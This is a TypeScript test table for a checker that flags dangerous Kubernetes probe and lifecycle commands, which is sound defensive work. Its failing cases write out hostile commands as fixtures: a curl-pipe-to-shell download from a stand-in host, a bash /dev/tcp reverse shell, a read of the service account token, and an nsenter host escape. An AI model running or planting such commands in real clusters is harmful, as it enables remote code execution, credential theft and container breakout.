import { inContainer } from '../../../../test/checks/manifests.ts';
import { checkTable } from '../../../../test/checks/table.ts';
import { probeCommandsPlain } from './probe-commands-plain.ts';

checkTable(probeCommandsPlain, [
  { name: 'none', facts: inContainer(''), verdicts: ['pass'] },
  {
    name: 'looks',
    facts: inContainer(
      'livenessProbe: {exec: {command: [cat, /tmp/healthy]}}, lifecycle: {preStop: {exec: {command: [sleep, "5"]}}}',
    ),
    verdicts: ['pass'],
  },
  { name: 'asks by HTTP', facts: inContainer('readinessProbe: {httpGet: {path: /, port: 80}}'), verdicts: ['pass'] },
  {
    name: 'downloads and runs',
    facts: inContainer('livenessProbe: {exec: {command: [sh, -c, "curl -s https://x.example/a | sh"]}}'),
    verdicts: ['fail'],
    saw: /livenessProbe downloads/,
  },
  {
    name: 'opens a shell',
    facts: inContainer('lifecycle: {postStart: {exec: {command: [bash, -c, "bash -i >& /dev/tcp/1.2.3.4/9 0>&1"]}}}'),
    verdicts: ['fail'],
    saw: /postStart/,
  },
  {
    name: 'reads the token',
    facts: inContainer('startupProbe: {exec: {command: [cat, /var/run/secrets/kubernetes.io/serviceaccount/token]}}'),
    verdicts: ['fail'],
    saw: /token/,
  },
  {
    name: 'enters the host',
    facts: inContainer('livenessProbe: {exec: {command: [nsenter, -t, "1", -a, ls]}}'),
    verdicts: ['fail'],
  },
  { name: 'no list', facts: inContainer('livenessProbe: {exec: {command: ls}}'), verdicts: ['unknown'] },
  { name: 'no command', facts: inContainer('livenessProbe: {exec: {}}'), verdicts: ['unknown'], saw: /not said/ },
]);
